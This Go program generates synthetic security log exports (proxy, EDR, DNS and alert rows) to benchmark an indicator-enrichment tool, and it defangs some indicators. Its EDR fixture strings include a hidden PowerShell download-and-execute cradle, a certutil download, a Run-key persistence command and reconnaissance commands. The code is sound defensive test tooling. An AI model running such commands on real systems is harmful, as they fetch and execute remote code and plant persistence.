// Command gen writes a deterministic, realistic log export for the
// benchmarks: proxy, EDR process, DNS and alert rows (timestamp, host,
// user, process, command line, URL, source and destination IPs, a file
// hash and a free-text message), mostly benign text with indicators
// sprinkled in, some of them defanged.
//
//	go run ./bench/gen -rows 1000000 -unique 50000 -format csv -seed 1 -o corpus.csv
//
// The indicators that vtenrich looks up (the screened-in observables) all
// come from a pool of exactly -unique values made from -seed, and every
// pool value appears at least once when -unique <= -rows, so runs with
// the same flags are comparable: the pool is the set of unique lookups.
// Everything else that looks like an indicator is meant to be screened
// out: private and documentation IPs, internal host names (.local,
// .internal, .corp), file names (setup.exe, update.zip), low-entropy hex,
// GUIDs, MAC addresses, clock times and version numbers. -pool FILE
// writes the pool, one "type<TAB>observable" a line, for checking.
//
// New pool values are introduced evenly through the file (about one every
// rows/unique rows); the other indicator slots repeat values already
// introduced, skewed toward the early ones, as popular destinations recur
// in real traffic.
package main

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"os"
	"strconv"
	"strings"
)

func main() {
	rows := flag.Int("rows", 100_000, "rows to write")
	unique := flag.Int("unique", 5_000, "unique screened-in observables (the pool)")
	format := flag.String("format", "csv", "output format: csv or jsonl")
	seed := flag.Uint64("seed", 1, "random seed: same flags, same bytes")
	out := flag.String("o", "-", "output file (- for stdout)")
	poolOut := flag.String("pool", "", "also write the pool of observables to FILE (type<TAB>value)")
	flag.Parse()
	if *rows < 1 || *unique < 20 || (*format != "csv" && *format != "jsonl") {
		fmt.Fprintln(os.Stderr, "gen: need -rows >= 1, -unique >= 20, -format csv|jsonl")
		os.Exit(2)
	}
	if err := run(*rows, *unique, *format, *seed, *out, *poolOut); err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

func run(rows, unique int, format string, seed uint64, out, poolOut string) error {
	g := newGen(seed, unique)
	if poolOut != "" {
		if err := g.writePool(poolOut); err != nil {
			return err
		}
	}
	f := os.Stdout
	if out != "-" {
		var err error
		if f, err = os.Create(out); err != nil {
			return err
		}
		defer f.Close()
	}
	w := bufio.NewWriterSize(f, 1<<20)
	var rec recordWriter
	if format == "csv" {
		rec = &csvRecords{w: csv.NewWriter(w)}
	} else {
		rec = &jsonlRecords{w: w}
	}
	if err := rec.header(columns); err != nil {
		return err
	}
	for r := range rows {
		if err := rec.write(g.row(r, rows)); err != nil {
			return err
		}
	}
	if err := rec.flush(); err != nil {
		return err
	}
	if err := w.Flush(); err != nil {
		return err
	}
	if out != "-" {
		return f.Close()
	}
	return nil
}

// columns are the export's columns, in order.
var columns = []string{
	"timestamp", "source", "host", "user", "process", "command_line", "url",
	"src_ip", "dst_ip", "dst_port", "action", "bytes", "file_hash", "message",
}

const (
	cTime = iota
	cSource
	cHost
	cUser
	cProcess
	cCmd
	cURL
	cSrc
	cDst
	cPort
	cAction
	cBytes
	cHash
	cMessage
	nColumns
)

// Observable types, named as vtenrich names them.
const (
	tDNS = iota
	tURL
	tIPv4
	tIPv6
	tMD5
	tSHA1
	tSHA256
	nTypes
)

var typeNames = [nTypes]string{"dns", "url", "ipv4", "ipv6", "md5_hash", "sha1_hash", "sha256_hash"}

// typeShare is each type's share of the pool, in percent.
var typeShare = [nTypes]int{30, 25, 18, 5, 7, 5, 10}

// gen holds the pool and the state of the walk through it.
type gen struct {
	r *rand.Rand
	// pool holds the values by type; order is the order of introduction.
	pool [nTypes][]string
	// next is the shuffled order, by type, in which pool values are
	// introduced; introduced counts how many are out.
	next       []int
	introduced int
	// seen counts the introduced values of each type: slots that repeat
	// draw from pool[t][:seen[t]].
	seen  [nTypes]int
	total int
	cells []string
}

func newGen(seed uint64, unique int) *gen {
	g := &gen{r: rand.New(rand.NewPCG(seed, 0x7e57c0de)), total: unique, cells: make([]string, nColumns)}
	counts := [nTypes]int{}
	left := unique
	for t := range nTypes {
		counts[t] = max(1, unique*typeShare[t]/100)
		left -= counts[t]
	}
	counts[tDNS] += left // rounding
	have := map[string]bool{}
	for t := range nTypes {
		for len(g.pool[t]) < counts[t] {
			v := g.observable(t)
			if !have[v] {
				have[v] = true
				g.pool[t] = append(g.pool[t], v)
			}
		}
	}
	for t := range nTypes {
		for range counts[t] {
			g.next = append(g.next, t)
		}
	}
	g.r.Shuffle(len(g.next), func(i, j int) { g.next[i], g.next[j] = g.next[j], g.next[i] })
	return g
}

func (g *gen) writePool(path string) error {
	var b strings.Builder
	for t := range nTypes {
		for _, v := range g.pool[t] {
			b.WriteString(typeNames[t] + "\t" + v + "\n")
		}
	}
	return os.WriteFile(path, []byte(b.String()), 0o644)
}

func (g *gen) pick(xs ...string) string { return xs[g.r.IntN(len(xs))] }

func (g *gen) pick3(a, b, c int) int { return []int{a, b, c}[g.r.IntN(3)] }

func (g *gen) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

// observable makes a random, normalised, screened-in value of type t.
func (g *gen) observable(t int) string {
	switch t {
	case tDNS:
		return g.domain()
	case tURL:
		host := g.domain()
		if g.r.IntN(10) == 0 {
			host = g.publicIPv4()
		}
		return g.pick("http://", "https://", "https://") + host + g.urlPath()
	case tIPv4:
		return g.publicIPv4()
	case tIPv6:
		return g.publicIPv6()
	}
	n := map[int]int{tMD5: 32, tSHA1: 40, tSHA256: 64}[t]
	for {
		// Random hex is almost always above the 3.0-bit entropy floor;
		// draw again in the rare case it is not, so no pool hash is
		// screened.
		if h := g.hex(n); entropy(h) >= 3.3 {
			return h
		}
	}
}

func entropy(s string) float64 {
	var n [256]int
	for i := range len(s) {
		n[s[i]]++
	}
	var e float64
	for _, c := range n {
		if c > 0 {
			p := float64(c) / float64(len(s))
			e -= p * math.Log2(p)
		}
	}
	return e
}

// syllables make pronounceable labels, like the names of real sites and
// of throw-away malware domains alike.
var syllables = []string{
	"ka", "lo", "mi", "ne", "ta", "ri", "zo", "vu", "pe", "sa", "do", "fi", "gu", "ha", "je", "co",
	"bra", "tor", "xen", "qua", "lin", "mar", "pix", "dex", "net", "sec", "web", "soft", "cloud", "data",
	"mail", "shop", "news", "host", "app", "cdn", "sync", "auth", "pay", "track",
}

// tlds are delegated ICANN TLDs and suffixes that are not file extensions
// (vtenrich screens .zip, .py, .sh, ... in running text).
var tlds = []string{
	"com", "com", "com", "net", "net", "org", "io", "ru", "de", "co.uk", "xyz", "top", "info",
	"biz", "cn", "com.br", "fr", "nl", "online", "site", "club", "shop", "su", "cc", "me", "us",
}

func (g *gen) label() string {
	var b strings.Builder
	for range 2 + g.r.IntN(3) {
		b.WriteString(syllables[g.r.IntN(len(syllables))])
	}
	switch g.r.IntN(8) {
	case 0:
		b.WriteString(strconv.Itoa(g.r.IntN(100)))
	case 1:
		b.WriteString("-" + syllables[g.r.IntN(len(syllables))])
	}
	return b.String()
}

func (g *gen) domain() string {
	sub := g.pick("", "", "", "www.", "cdn.", "api.", "login.", "mail.", "update.", "static.", "files.")
	return sub + g.label() + "." + tlds[g.r.IntN(len(tlds))]
}

func (g *gen) urlPath() string {
	w := func() string { return syllables[g.r.IntN(len(syllables))] + syllables[g.r.IntN(len(syllables))] }
	switch g.r.IntN(7) {
	case 0:
		return "/wp-content/uploads/2024/0" + strconv.Itoa(1+g.r.IntN(9)) + "/" + w() + ".php"
	case 1:
		return "/gate.php?id=" + g.hex(8)
	case 2:
		return "/download/" + w() + ".exe"
	case 3:
		return "/api/v1/" + w() + "/" + strconv.Itoa(g.r.IntN(100000))
	case 4:
		return "/" + w() + "/" + w() + ".js"
	case 5:
		return "/index.html?ref=" + w()
	}
	return "/" + w() + "/" + g.hex(12) + ".bin"
}

// globalFirstOctets are first octets whose /8 holds no special-purpose
// range, so any address under them is global unicast.
var globalFirstOctets = []int{23, 31, 37, 45, 46, 52, 62, 77, 78, 80, 81, 82, 83, 85, 87, 88, 89, 91, 93, 94, 95, 104, 109, 141, 142, 151, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217}

func (g *gen) publicIPv4() string {
	return fmt.Sprintf("%d.%d.%d.%d", globalFirstOctets[g.r.IntN(len(globalFirstOctets))], g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

// publicIPv6 draws from allocated global unicast blocks (RIPE, ARIN,
// APNIC), avoiding 2001::/23 (Teredo, benchmarking, ORCHID, documentation)
// and 2002::/16 (6to4); netip gives the canonical form vtenrich uses.
func (g *gen) publicIPv6() string {
	var a [16]byte
	prefix := []uint16{0x2a00, 0x2a01, 0x2a02, 0x2a03, 0x2600, 0x2601, 0x2604, 0x2607, 0x2400, 0x2404, 0x2406}[g.r.IntN(11)]
	a[0], a[1] = byte(prefix>>8), byte(prefix)
	for i := 2; i < 16; i++ {
		a[i] = byte(g.r.IntN(256))
	}
	// Real addresses often have runs of zero groups: compress some.
	if g.r.IntN(2) == 0 {
		for i := 8; i < 14; i++ {
			a[i] = 0
		}
	}
	return netip.AddrFrom16(a).String()
}

// take returns a pool value of type t already introduced (skewed to the
// early, popular ones), or a new one if none of that type is out yet.
func (g *gen) take(t int) string {
	n := g.seen[t]
	if n == 0 {
		return g.introduce(t)
	}
	u := g.r.Float64()
	return g.pool[t][int(float64(n)*u*u*u)]
}

// introduce brings out the next pool value of type t, out of the shuffled
// order if need be (it only shifts when values appear, never which).
func (g *gen) introduce(t int) string {
	if g.seen[t] == len(g.pool[t]) { // all out (seen[t] > 0: pools are never empty)
		return g.take(t)
	}
	for i := g.introduced; i < len(g.next); i++ {
		if g.next[i] == t {
			g.next[i], g.next[g.introduced] = g.next[g.introduced], g.next[i]
			break
		}
	}
	// Values of one type come out in pool order, so pool[t][:seen[t]]
	// is always the introduced set.
	g.introduced++
	g.seen[t]++
	return g.pool[t][g.seen[t]-1]
}

// due returns the types of the pool values that row r must introduce to
// keep the introductions evenly spread over rows rows.
func (g *gen) due(r, rows int) []int {
	target := int((int64(r) + 1) * int64(g.total) / int64(rows))
	var ts []int
	for i := g.introduced; i < min(target, len(g.next)); i++ {
		ts = append(ts, g.next[i])
	}
	return ts
}

func (g *gen) row(r, rows int) []string {
	for i := range g.cells {
		g.cells[i] = ""
	}
	row := g.cells
	due := g.due(r, rows)
	row[cTime] = fmt.Sprintf("2024-05-%02dT%02d:%02d:%02d.%03dZ", 1+r*28/rows, g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000))
	row[cHost] = fmt.Sprintf("%s-%04d", g.pick("WS", "ws", "LAPTOP", "SRV"), g.r.IntN(3000))
	row[cUser] = g.pick(`CORP\`, `corp\`, "") + g.pick("jdoe", "asmith", "bwayne", "ckent", "svc_backup", "administrator", "mlopez", "tnguyen")

	// The row's kind follows the first value it must introduce, so that
	// value lands in a column where that type belongs; otherwise kinds
	// come in a proxy-heavy mix, as in real exports.
	kind := g.r.IntN(100)
	if len(due) > 0 {
		switch due[0] {
		case tURL:
			kind = 0 // proxy
		case tMD5, tSHA1, tSHA256:
			kind = 45 // edr
		case tDNS, tIPv4, tIPv6:
			kind = 70 // dns
		}
	}
	var extra []int
	switch {
	case kind < 45:
		extra = g.proxy(row, due)
	case kind < 70:
		extra = g.edr(row, due)
	case kind < 92:
		extra = g.dns(row, due)
	default:
		extra = g.alert(row, due)
	}
	// Values due that the row's own slots did not take go into the
	// message, as an analyst's note lists them.
	if len(extra) > 0 {
		var b strings.Builder
		b.WriteString(row[cMessage])
		b.WriteString("; related:")
		for _, t := range extra {
			b.WriteString(" " + g.mention(t, g.introduce(t)))
		}
		row[cMessage] = b.String()
	}
	return row
}

// slot returns a pool value of type t, the new one if t is due.
func (g *gen) slot(t int, due *[]int) string {
	for i, d := range *due {
		if d == t {
			*due = append((*due)[:i], (*due)[i+1:]...)
			return g.introduce(t)
		}
	}
	return g.take(t)
}

func (g *gen) privateIPv4() string {
	switch g.r.IntN(3) {
	case 0:
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
	case 1:
		return fmt.Sprintf("192.168.%d.%d", g.r.IntN(256), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("172.%d.%d.%d", 16+g.r.IntN(16), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *gen) guid() string {
	h := g.hex(32)
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0.6367.91",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Firefox/125.0",
	"Microsoft-CryptoAPI/10.0",
	"Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
	"curl/8.5.0",
	"python-requests/2.31.0",
}

func (g *gen) proxy(row []string, due []int) []int {
	row[cSource] = "proxy"
	row[cProcess] = g.pick("", `C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Windows\System32\svchost.exe`)
	switch g.r.IntN(12) {
	case 0: // internal: screened (special-use name, private IP)
		row[cURL] = g.pick("http://intranet.corp.local/", "https://wiki.corp.internal/display/", "http://"+g.privateIPv4()+":8080/") + g.pick("health", "login.aspx", "api/status")
	default:
		row[cURL] = g.slot(tURL, &due)
	}
	row[cSrc] = g.privateIPv4()
	if g.r.IntN(6) == 0 {
		row[cDst] = g.slot(tIPv6, &due)
	} else {
		row[cDst] = g.slot(tIPv4, &due)
	}
	row[cPort] = g.pick("443", "443", "80", "8080")
	row[cAction] = g.pick("allowed", "allowed", "allowed", "blocked")
	row[cBytes] = strconv.Itoa(200 + g.r.IntN(200000))
	row[cMessage] = g.pick("TCP_MISS/200", "TCP_TUNNEL/200", "TCP_DENIED/403", "TCP_HIT/304") + " " + userAgents[g.r.IntN(len(userAgents))]
	return due
}

var processes = []string{
	`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
	`C:\Windows\explorer.exe`, `C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\certutil.exe`,
	`C:\Users\jdoe\AppData\Local\Temp\setup.exe`, `C:\Windows\System32\svchost.exe`, `/usr/bin/curl`, `/usr/bin/python3`,
}

func (g *gen) edr(row []string, due []int) []int {
	row[cSource] = "edr"
	row[cProcess] = processes[g.r.IntN(len(processes))]
	switch g.r.IntN(10) {
	case 0:
		row[cCmd] = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('` + g.slot(tURL, &due) + `')"`
	case 1:
		row[cCmd] = `certutil -urlcache -split -f ` + g.slot(tURL, &due) + ` C:\ProgramData\a.bin`
	case 2:
		row[cCmd] = g.pick(`nslookup -type=txt `, `ping -n 1 `, `Test-NetConnection -Port 443 `) + g.slot(g.pick3(tDNS, tIPv4, tIPv6), &due)
	case 3:
		row[cCmd] = `rundll32.exe C:\Users\jdoe\AppData\Local\Temp\update.dll,DllRegisterServer`
	case 4:
		row[cCmd] = `python3 script.py --input data.json --out report.csv`
	case 5:
		row[cCmd] = `net use \\fileserver01.corp.local\share /user:CORP\jdoe`
	case 6:
		row[cCmd] = `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\Public\upd.exe /f`
	default:
		row[cCmd] = g.pick(`cmd.exe /c "systeminfo && whoami /all"`, `svchost.exe -k netsvcs -p -s Schedule`, `"C:\Windows\explorer.exe" /factory,{`+g.guid()+`} -Embedding`)
	}
	t := []int{tMD5, tSHA1, tSHA256, tSHA256}[g.r.IntN(4)]
	for _, d := range due { // a hash that is due goes in the hash column
		if d >= tMD5 {
			t = d
			break
		}
	}
	h := g.slot(t, &due)
	if g.r.IntN(3) == 0 {
		h = strings.ToUpper(h) // many EDRs write upper-case hashes
	}
	row[cHash] = h
	row[cAction] = g.pick("process_create", "file_create", "image_load")
	row[cMessage] = g.pick("parent=explorer.exe", "parent=services.exe", "parent=winword.exe signer=Microsoft Corporation", "signed=false zone=3") +
		" pid=" + strconv.Itoa(g.r.IntN(65536)) + " guid={" + g.guid() + "}"
	return due
}

func (g *gen) dns(row []string, due []int) []int {
	row[cSource] = "dns"
	row[cSrc] = g.privateIPv4()
	row[cDst] = g.pick("10.0.0.53", "10.0.0.54", "192.168.1.1")
	row[cPort] = "53"
	var q, a string
	switch g.r.IntN(8) {
	case 0: // internal name, no answer worth a lookup
		q, a = g.pick("wpad.corp.local", "dc01.corp.internal", "printer-3f.lan", "fileserver01"), g.privateIPv4()
	default:
		q = g.slot(tDNS, &due)
		if g.r.IntN(5) == 0 {
			a = g.slot(tIPv6, &due)
		} else {
			a = g.slot(tIPv4, &due)
		}
	}
	row[cAction] = g.pick("NOERROR", "NOERROR", "NOERROR", "NXDOMAIN")
	row[cMessage] = "query: " + q + " IN " + g.pick("A", "AAAA", "HTTPS") + " answer " + a + " ttl=" + strconv.Itoa(g.r.IntN(3600)) + " client mac 00:1a:2b:" + g.hex(2) + ":" + g.hex(2) + ":" + g.hex(2)
	return due
}

// mention writes v as an analyst would in a note: often defanged.
func (g *gen) mention(t int, v string) string {
	if g.r.IntN(2) == 0 {
		return v
	}
	switch t {
	case tURL:
		v = strings.Replace(v, "http", "hxxp", 1)
		scheme, rest, _ := strings.Cut(v, "://")
		host, path, _ := strings.Cut(rest, "/")
		return scheme + g.pick("://", "[://]", "[:]//") + strings.ReplaceAll(host, ".", g.pick("[.]", "(.)", "[dot]")) + "/" + path
	case tDNS, tIPv4:
		return strings.ReplaceAll(v, ".", g.pick("[.]", "(.)", "{.}"))
	}
	return v
}

func (g *gen) alert(row []string, due []int) []int {
	row[cSource] = "alert"
	row[cHost] = row[cHost] + ".corp.local"
	t := []int{tURL, tDNS, tIPv4, tSHA256, tMD5}[g.r.IntN(5)]
	if len(due) > 0 {
		t = due[0]
	}
	v := g.mention(t, g.slot(t, &due))
	row[cAction] = g.pick("alert", "block", "notify")
	row[cMessage] = g.pick("Beacon to ", "ET MALWARE rule matched: C2 ", "TI match (confidence 80): ", "User reported phishing link ") + v +
		g.pick(" at 12:30:45 UTC", " build 10.0.19041.3803", " hash 00000000000000000000000000000000 ignored", " ticket INC-"+strconv.Itoa(g.r.IntN(99999)), " from "+g.privateIPv4())
	return due
}

// recordWriter writes rows in one output format.
type recordWriter interface {
	header([]string) error
	write([]string) error
	flush() error
}

type csvRecords struct{ w *csv.Writer }

func (c *csvRecords) header(h []string) error { return c.w.Write(h) }
func (c *csvRecords) write(r []string) error  { return c.w.Write(r) }
func (c *csvRecords) flush() error            { c.w.Flush(); return c.w.Error() }

type jsonlRecords struct {
	w    *bufio.Writer
	keys []string
	b    []byte
}

func (j *jsonlRecords) header(h []string) error { j.keys = h; return nil }

func (j *jsonlRecords) write(r []string) error {
	b := append(j.b[:0], '{')
	for i, k := range j.keys {
		if i > 0 {
			b = append(b, ',')
		}
		b = strconv.AppendQuote(b, k) // column names are plain ASCII
		b = append(b, ':')
		s, _ := json.Marshal(r[i])
		b = append(b, s...)
	}
	b = append(b, '}', '\n')
	j.b = b
	_, err := j.w.Write(b)
	return err
}

func (j *jsonlRecords) flush() error { return nil }
